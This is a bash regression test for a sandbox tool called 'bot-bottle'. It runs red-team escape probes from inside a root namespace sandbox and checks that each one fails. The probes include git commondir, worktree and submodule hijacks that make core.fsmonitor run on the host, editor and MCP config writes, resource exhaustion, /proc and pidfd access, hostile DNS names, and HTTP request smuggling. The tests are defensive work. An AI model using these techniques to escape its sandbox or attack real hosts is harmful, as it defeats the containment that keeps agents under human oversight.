#!/usr/bin/env bash
# Red-team probes from inside a real bottle run as root (`bot-bottle run --backend namespace`),
# by routes the other integration tests do not take. Each one is an attack that failed (or
# was fixed); the test keeps it failing. Bounded and loopback only: the daemon's upstream DNS
# is the stub on 127.0.0.1, no name is allowlisted, nothing connects anywhere else.
source "$(dirname "$0")/lib.sh"

if [ "$(id -u)" != 0 ]; then
    skip "red-team probes" "they need root (a bottle whose uid 0 is host root is the case tested)"
    done_testing
fi
PY=/usr/bin/python3
[ -x "$PY" ] || { echo "Bail out! $PY is needed inside the bottle (install-deps installs python3)"; exit 1; }
command -v git >/dev/null || { echo "Bail out! git is needed (scripts/install-deps.sh)"; exit 1; }

dns_stub

WS=$T/ws
mkdir -p "$WS"
run() {
    (cd "$WS" && env -u SUDO_UID -u SUDO_GID -u SUDO_USER timeout 60 "$BB" run \
        --backend namespace --upstream-dns "127.0.0.1:$DNS" "$@")
}
PWNED=$T/pwned

# --- .git/commondir: git reads config and hooks from the directory it names. A bottle that
# writes it points the host's git at a config of its own (core.fsmonitor runs on the next
# `git status`), past the read-only .git/config and .git/hooks.
G=$T/repo
git init -q -b main "$G"
git -C "$G" -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m init
cat >"$G/evil.sh" <<SH
#!/bin/sh
touch "$PWNED"
exit 1
SH
chmod 755 "$G/evil.sh"
ls_before=$(ls -A "$G/.git" | sort)
out=$( (cd "$G" && env -u SUDO_UID -u SUDO_GID timeout 60 "$BB" run --backend namespace \
    --upstream-dns "127.0.0.1:$DNS" -- sh -c '
w() { desc=$1; shift; if "$@" 2>/dev/null; then echo "WROTE: $desc"; fi; }
mkdir -p .git/evil/hooks && cp -r .git/objects .git/refs .git/HEAD .git/evil/
printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = $PWD/evil.sh\n" >.git/evil/config
cp evil.sh .git/evil/hooks/post-checkout
w "create .git/commondir" sh -c "echo evil >.git/commondir"
w "rename onto .git/commondir" sh -c "echo evil >.git/cd.tmp && mv -f .git/cd.tmp .git/commondir"
w "link onto .git/commondir" sh -c "echo evil >.git/cd.tmp && ln -f .git/cd.tmp .git/commondir"
rm -f .git/cd.tmp
git status >/dev/null 2>&1 && echo git-works-inside
echo attempts-done') 2>&1)
is "commondir: every write to .git/commondir failed inside the bottle" \
    "$(grep WROTE <<<"$out")" ""
like "commondir: git still works inside (the placeholder names the gitdir itself)" "$out" \
    "git-works-inside"
like "commondir: ... and the attempts ran" "$out" "attempts-done"
(cd "$G" && git status >/dev/null 2>&1; git checkout -q -b x >/dev/null 2>&1)
check "commondir: the host's git status/checkout ran nothing the bottle wrote" test ! -e "$PWNED"
rm -rf "$G/.git/evil"
is "commondir: no placeholder is left in .git" "$(ls -A "$G/.git" | sort)" "$ls_before"

# --- a linked worktree outside the workspace (git worktree add ../wt): git there takes its
# config and hooks from the directory .git/worktrees/ID/commondir names, a file inside the
# workspace. A bottle that rewrote it ran its code in the user's other checkout.
rm -f "$PWNED"
git -C "$G" worktree add -q "$T/other-wt" -b other 2>/dev/null
wt_id=$(basename "$(sed -n 's/^gitdir: //p' "$T/other-wt/.git")")
out=$( (cd "$G" && env -u SUDO_UID -u SUDO_GID timeout 60 "$BB" run --backend namespace \
    --upstream-dns "127.0.0.1:$DNS" -- sh -c '
mkdir -p .git/evil/hooks && cp -r .git/objects .git/refs .git/HEAD .git/evil/
printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = $PWD/evil.sh\n" >.git/evil/config
W=.git/worktrees/'"$wt_id"'
(mv $W .git/wt.old && mv .git/wt.old $W) 2>/dev/null && echo "WROTE: moved the worktree gitdir"
(echo ../../evil >.git/cd.tmp && mv -f .git/cd.tmp $W/commondir) 2>/dev/null &&
    echo "WROTE: rename onto commondir"
(echo ../../evil >$W/commondir) 2>/dev/null && echo "WROTE: commondir"
rm -f .git/cd.tmp
git worktree add -q inside-wt 2>/dev/null && git -C inside-wt status >/dev/null 2>&1 && echo worktree-add-works
echo attempts-done') 2>&1)
is "worktree: the linked worktree's commondir cannot be rewritten inside the bottle" \
    "$(grep WROTE <<<"$out")" ""
like "worktree: git worktree add still works inside" "$out" "worktree-add-works"
(cd "$T/other-wt" && git status >/dev/null 2>&1)
check "worktree: the host's git status in the other worktree ran nothing the bottle wrote" \
    test ! -e "$PWNED"
is "worktree: its commondir is unchanged" "$(cat "$G/.git/worktrees/$wt_id/commondir")" "../.."
rm -rf "$G/.git/evil"

# --- editor and agent configuration that runs commands on the host, beyond .vscode/.claude:
# a dev container's initializeCommand, Cursor's and Gemini CLI's MCP servers, Zed's language
# server binaries. None can be created from inside, and nothing of them is left behind.
ls_ws=$(ls -A "$WS")
out=$(run -- sh -c '
for f in .devcontainer/devcontainer.json .cursor/mcp.json .gemini/settings.json .zed/settings.json; do
    d=${f%%/*}
    (mkdir -p "$d" && echo "{\"initializeCommand\": \"touch /tmp/x\"}" >"$f") 2>/dev/null && echo "WROTE: $f"
    (rm -rf "$d" && mkdir "$d") 2>/dev/null && echo "WROTE: replaced $d"
done
echo attempts-done' 2>&1)
is "editors: .devcontainer, .cursor, .gemini, .zed cannot be written inside" "$(grep WROTE <<<"$out")" ""
like "editors: ... and the attempts ran" "$out" "attempts-done"
is "editors: ... and no placeholder is left in the workspace" "$(ls -A "$WS")" "$ls_ws"

# --- an existing submodule: its checkout's .git is a file ("gitdir: ../.git/modules/sub") the
# host's git status in the superproject follows, running git status in the submodule. A bottle
# that pointed it at a gitdir of its own ran that gitdir's core.fsmonitor on the host's plain
# `git status`, without a single write to .git.
rm -f "$PWNED"
git init -q -b main "$T/subsrc"
git -C "$T/subsrc" -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m s
(cd "$G" && git -c protocol.file.allow=always submodule -q add "$T/subsrc" sub >/dev/null 2>&1 &&
    git -c user.name=t -c user.email=t@example.invalid commit -q -m sub)
gitlink_before=$(cat "$G/sub/.git")
out=$( (cd "$G" && env -u SUDO_UID -u SUDO_GID timeout 60 "$BB" run --backend namespace \
    --upstream-dns "127.0.0.1:$DNS" -- sh -c '
mkdir -p evilgd && cp -r .git/modules/sub/objects .git/modules/sub/refs .git/modules/sub/HEAD .git/modules/sub/index evilgd/
printf "[core]\n\trepositoryformatversion = 0\n\tworktree = ../sub\n\tfsmonitor = $PWD/evil.sh\n" >evilgd/config
(mv sub sub.old && mv sub.old sub) 2>/dev/null && echo "WROTE: moved the submodule checkout"
(echo "gitdir: ../evilgd" >sub/g.tmp && mv -f sub/g.tmp sub/.git) 2>/dev/null && echo "WROTE: rename onto sub/.git"
(echo "gitdir: ../evilgd" >sub/.git) 2>/dev/null && echo "WROTE: sub/.git"
rm -f sub/g.tmp
git -C sub status >/dev/null 2>&1 && echo submodule-git-works
echo attempts-done') 2>&1)
is "submodule: the checkout's .git cannot be rewritten inside the bottle" "$(grep WROTE <<<"$out")" ""
like "submodule: git still works in the submodule inside" "$out" "submodule-git-works"
(cd "$G" && git status >/dev/null 2>&1)
check "submodule: the host's git status in the superproject ran nothing the bottle wrote" \
    test ! -e "$PWNED"
is "submodule: its .git is unchanged" "$(cat "$G/sub/.git")" "$gitlink_before"
rm -rf "$G/evilgd"

# --- /proc files only root may read: the bottle's uid 0 is host root, so without a mask it
# reads the host's physical page tables (kpageflags, kpagecount, kpagecgroup) and allocator
# state (slabinfo, pagetypeinfo). Every such file the host has reads nothing inside.
rootonly=$(find /proc -maxdepth 1 -type f ! -perm -004 -printf '%f ' 2>/dev/null)
[ -n "$rootonly" ] || diag "no root-only file at the top of the host's /proc: the check below proves little"
out=$(run -- sh -c 'for f in '"$rootonly"'; do test -e /proc/$f || continue; n=$(head -c 64 /proc/$f 2>/dev/null | wc -c); [ "$n" = 0 ] || echo "$f:$n"; done; echo read-done')
is "proc: every root-only host /proc file ($rootonly) reads nothing inside" "$out" "read-done"

# --- the home directory as the workspace: the workspace is mounted over the bottle's private
# $HOME, so a bottle started in ~ (the default workspace is the current directory) wrote the
# host's ~/.bashrc, ~/.gitconfig, ~/.ssh. Refused before anything is made or started.
H=$(getent passwd "$(id -u)" | cut -d: -f6)
if [ -d "$H" ] && [ "$H" != / ]; then
    home_before=$(ls -A "$H")
    out=$( (cd "$H" && env -u SUDO_UID -u SUDO_GID timeout 60 "$BB" run --backend namespace \
        --upstream-dns "127.0.0.1:$DNS" -- sh -c 'echo bottle-ran') 2>&1)
    rc=$?
    unlike "home: a bottle in the home directory $H does not run" "$out" "bottle-ran"
    like "home: ... it is refused, saying why and what to do" "$out" \
        "bot-bottle: .*the workspace $H is the home directory.*--workspace DIR"
    is "home: ... with a failure status" "$([ "$rc" != 0 ] && echo fail)" "fail"
    is "home: ... and nothing was made in $H" "$(ls -A "$H")" "$home_before"
    out=$(cd "$H" && cd .. && env -u SUDO_UID -u SUDO_GID timeout 60 "$BB" run --backend namespace \
        --upstream-dns "127.0.0.1:$DNS" -w "$(dirname "$H")" -- sh -c 'echo bottle-ran' 2>&1)
    if [ "$(dirname "$H")" = / ]; then
        unlike "home: a workspace holding $H (/) does not run either" "$out" "bottle-ran"
    else
        like "home: a workspace holding $H is refused too" "$out" "holds the home directory"
    fi
else
    skip "home: the workspace may not be the home directory" "uid $(id -u) has no home directory"
fi

# --- inotify and fanotify objects, POSIX message queue bytes and queued signals are counted per
# user up the
# user namespaces: a bottle run as root that took all of them left every host process of root
# (systemd, editors, tail -f) with EMFILE. The bottle takes what it can, then the host tries.
cat >"$WS/ucounts.py" <<'PY'
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
rt = ctypes.CDLL("librt.so.1", use_errno=True)
class MqAttr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long),
                ("curmsgs", ctypes.c_long), ("pad", ctypes.c_long * 4)]
def take(make):
    n = 0
    while n < 100000 and make(n) >= 0:
        n += 1
    return "%d %d" % (n, ctypes.get_errno())
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
class SigVal(ctypes.Union):
    _fields_ = [("i", ctypes.c_int), ("p", ctypes.c_void_p)]
res = [take(lambda n: libc.inotify_init1(0)),
       take(lambda n: libc.syscall(300, 0x200, 0)),  # fanotify_init(FAN_REPORT_FID): unprivileged
       take(lambda n: rt.mq_open(b"/bb%d" % n, os.O_CREAT | os.O_RDWR, 0o600,
                                 ctypes.byref(MqAttr(0, 10, 8192, 0)))),
       take(lambda n: libc.sigqueue(os.getpid(), signal.SIGRTMIN, SigVal(0)))]
with open("uc.ready", "w") as f:
    f.write("\n".join(res) + "\n")
for _ in range(100):
    if os.path.exists("uc.done"):
        break
    time.sleep(0.05)
PY
cat >"$T/host-ucounts.py" <<'PY'
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
rt = ctypes.CDLL("librt.so.1", use_errno=True)
class MqAttr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long),
                ("curmsgs", ctypes.c_long), ("pad", ctypes.c_long * 4)]
def res(fd):
    return "ok" if fd >= 0 else "errno %d" % ctypes.get_errno()
print("inotify", res(libc.inotify_init1(0)))
print("fanotify", res(libc.syscall(300, 0x200, 0)))
name = b"/bb-redteam-host-%d" % os.getpid()
print("mqueue", res(rt.mq_open(name, os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(MqAttr(0, 10, 8192, 0)))))
rt.mq_unlink(name)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
class SigVal(ctypes.Union):
    _fields_ = [("i", ctypes.c_int), ("p", ctypes.c_void_p)]
print("sigqueue", res(libc.sigqueue(os.getpid(), signal.SIGRTMIN, SigVal(0))))
PY
rm -f "$WS/uc.ready" "$WS/uc.done"
run -- "$PY" ucounts.py >/dev/null 2>&1 &
uc_pid=$!
wait_file "$WS/uc.ready"
host_uc=$("$PY" "$T/host-ucounts.py" 2>&1)
touch "$WS/uc.done"
wait "$uc_pid"
like "ucounts: the bottle took inotify, fanotify, mqueue (EMFILE), queued signals (EAGAIN) until refused" \
    "$(tr '\n' ' ' <"$WS/uc.ready" 2>/dev/null)" "^[0-9]+ 24 [0-9]+ 24 [0-9]+ 24 [0-9]+ 11 "
for k in inotify fanotify mqueue sigqueue; do
    is "ucounts: ... and meanwhile the host's root could still make a $k" \
        "$(sed -n "s/^$k //p" <<<"$host_uc")" "ok"
done
max_ino=$(cat /proc/sys/fs/inotify/max_user_instances)
check "ucounts: ... the bottle held at most half of fs.inotify.max_user_instances ($max_ino)" \
    test "$(head -n 1 "$WS/uc.ready" | cut -d' ' -f1)" -le $((max_ino / 2))

# --- -t: the bottle's pty. TIOCSETD (line discipline) makes the host kernel autoload
# tty-ldisc modules (n_gsm, n_hdlc, ppp) when dev.tty.ldisc_autoload is 1; refused. N_NULL
# (27) is built in, so without the rule the switch succeeds here.
if command -v script >/dev/null; then
    cat >"$WS/ldisc.py" <<'PY'
import errno, fcntl, struct, termios
try:
    fcntl.ioctl(0, termios.TIOCSETD, struct.pack("i", 27))
    fcntl.ioctl(0, termios.TIOCSETD, struct.pack("i", 0))
    print("ldisc=OK")
except OSError as e:
    print("ldisc=%s" % errno.errorcode.get(e.errno, e.errno))
PY
    out=$(cd "$WS" && env -u SUDO_UID -u SUDO_GID timeout 60 script -qec \
        "$BB run --backend namespace --upstream-dns 127.0.0.1:$DNS -t -- $PY ldisc.py" /dev/null 2>&1)
    like "tty: TIOCSETD on the bottle's pty is refused (EPERM)" "$out" "ldisc=EPERM"
else
    skip "tty: TIOCSETD" "script(1) (bsdutils) is needed to give bot-bottle a terminal"
fi

# --- probes that the boundary holds against (kept so it stays that way), in one bottle:
#  bottle-init (PID 1, uid 0 with capabilities in the bottle's namespaces) is out of reach of
#  the command (uid 0, none): its /proc entries and, via pidfd_getfd, its fds (channel,
#  spec, hand-off socket); a host abstract AF_UNIX socket (scoped by network namespace);
#  terminal control bytes in a refused DNS name do not reach the user's terminal through the
#  supervisor's notice; a name with a NUL or a dot inside a label is refused and never
#  forwarded upstream.
"$PY" - <<'PY' &
import socket, time
s = socket.socket(socket.AF_UNIX); s.bind(b"\0bb-redteam-host"); s.listen(1)
time.sleep(30)
PY
_pids+=("$!")
cat >"$WS/probe.py" <<'PY'
import ctypes, errno, os, re, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def res(label, fn):
    try:
        fn(); r = "OK"
    except OSError as e:
        r = errno.errorcode.get(e.errno, str(e.errno))
    print("%s=%s" % (label, r))
def sc(*a):
    v = libc.syscall(*a)
    if v < 0:
        raise OSError(ctypes.get_errno(), "")
    return v
res("init_environ", lambda: open("/proc/1/environ", "rb").read())
res("init_root", lambda: os.listdir("/proc/1/root/"))
res("init_mem", lambda: open("/proc/1/mem", "rb"))
res("init_ns", lambda: os.open("/proc/1/ns/net", os.O_RDONLY))
res("init_fd_link", lambda: os.readlink("/proc/1/fd/3"))
pidfd = sc(434, 1, 0)  # pidfd_open
for fd in (3, 4, 5):
    res("init_getfd_%d" % fd, lambda: sc(438, pidfd, fd, 0))
res("host_abstract", lambda: socket.socket(socket.AF_UNIX).connect(b"\0bb-redteam-host"))
A = re.match(r"http://([\d.]+):", os.environ["HTTP_PROXY"]).group(1)
def q(labels, qid):
    body = b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + body
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
for i, labels in enumerate([[b"\x1b]0;TITLE\x07\x1b[2Jleakesc", b"example", b"org"],
                            [b"allprivate", b"test\x00", b"leaknul", b"example"],
                            [b"leakdot.example.allprivate", b"test"]]):
    u.sendto(q(labels, 100 + i), (A, 53))
    try:
        r = u.recv(512); print("dns%d=rcode%d" % (i, r[3] & 15))
    except OSError:
        print("dns%d=none" % i)
PY
: >"$T/dns.log"
out=$(run --allow allprivate.test -- "$PY" probe.py 2>"$T/probe.err")
for p in init_environ init_root init_mem init_ns init_fd_link; do
    is "init: /proc/1 of bottle-init: $p refused" "$(sed -n "s/^$p=//p" <<<"$out")" "EACCES"
done
for fd in 3 4 5; do
    is "init: pidfd_getfd of bottle-init's fd $fd refused" \
        "$(sed -n "s/^init_getfd_$fd=//p" <<<"$out")" "EPERM"
done
is "netns: a host abstract AF_UNIX socket is unreachable" \
    "$(sed -n 's/^host_abstract=//p' <<<"$out")" "ECONNREFUSED"
is "dns: the hostile names were refused (NXDOMAIN)" "$(grep -c '^dns[0-9]=rcode3$' <<<"$out")" "3"
is "dns: none of them reached the upstream" "$(grep -c leak "$T/dns.log")" "0"
like "notice: the refused name with control bytes is shown ..." "$(cat "$T/probe.err")" \
    "bot-bottle: blocked .*leakesc"
is "notice: ... without a single control byte (ESC, BEL) on the terminal" \
    "$(tr -d '\n' <"$T/probe.err" | tr -dc '\000-\037\177' | wc -c)" "0"

# --- the proxy: a second request on a kept-alive connection, and one after an Upgrade, name
# a host that is not allowlisted; only the first ever reaches the (loopback) upstream.
UP=$(free_port)
"$PY" - "$UP" "$T/up.log" <<'PY' &
import socket, sys, threading
log = open(sys.argv[2], "ab", buffering=0)
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
def serve(c):
    c.settimeout(5)
    try:
        while True:
            d = c.recv(65536)
            if not d:
                break
            log.write(d)
            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    except OSError:
        pass
    c.close()
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
PY
_pids+=("$!")
wait_port "$UP" || { echo "Bail out! the fake upstream did not start"; exit 1; }
cat >"$WS/smuggle.py" <<'PY'
import os, re, socket, sys
A = re.match(r"http://([\d.]+):", os.environ["HTTP_PROXY"]).group(1)
H, E = "allprivate.test:" + sys.argv[1], "allprivate.evil:" + sys.argv[1]
def raw(data):
    c = socket.create_connection((A, 3128)); c.settimeout(3); c.sendall(data.encode()); out = b""
    try:
        while True:
            d = c.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    return [l.decode() for l in out.split(b"\r\n") if l.startswith(b"HTTP/1.1 ")]
print("pipeline", raw("GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\n"
                      "GET http://%s/leak1 HTTP/1.1\r\nHost: %s\r\n\r\n" % (H, H, E, E)))
print("origin", raw("GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\n"
                    "GET /leak2 HTTP/1.1\r\nHost: %s\r\n\r\n" % (H, H, E)))
print("upgrade", raw("GET http://%s/up HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\n"
                     "Upgrade: websocket\r\n\r\nGET http://%s/leak3 HTTP/1.1\r\nHost: %s\r\n\r\n"
                     % (H, H, E, E)))
print("chunkext", raw("POST http://%s/c HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n"
                      "5;x=\"\r\n0\r\n\r\nGET http://%s/leak4 HTTP/1.1\r\n\r\n\"\r\nhello\r\n0\r\n\r\n"
                      % (H, H, E)))
PY
out=$(run --allow "allprivate.test:$UP" --allow-cidr 127.0.0.1/32 -- "$PY" smuggle.py "$UP" 2>&1)
like "proxy: the allowlisted first request was served (the probes reached the proxy)" "$out" \
    "pipeline \['HTTP/1.1 200 OK'"
like "proxy: ... and the upstream got it" "$(cat "$T/up.log" 2>/dev/null)" "GET /first"
is "proxy: no pipelined, post-Upgrade or chunk-extension request reached the upstream" \
    "$(grep -ac 'leak\|allprivate.evil' "$T/up.log")" "0"

done_testing
